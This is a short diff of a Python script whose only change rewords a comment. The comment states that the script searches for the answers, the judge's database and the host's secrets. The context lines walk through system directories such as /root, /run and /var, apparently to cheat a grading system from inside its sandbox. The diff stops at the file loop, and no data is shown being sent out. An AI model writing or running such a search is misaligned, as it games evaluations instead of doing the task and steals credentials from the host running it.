@@ -1,6 +1,6 @@
 import os
 
-# Looks for the answers, the database of the judge, and secrets of the host.
+# Searches for the answers, the database of the judge and secrets of the host.
 for top in ['/box', '/data', '/home', '/opt', '/root', '/run', '/srv', '/tmp', '/var']:
     for directory, _, files in os.walk(top):
         for name in files:
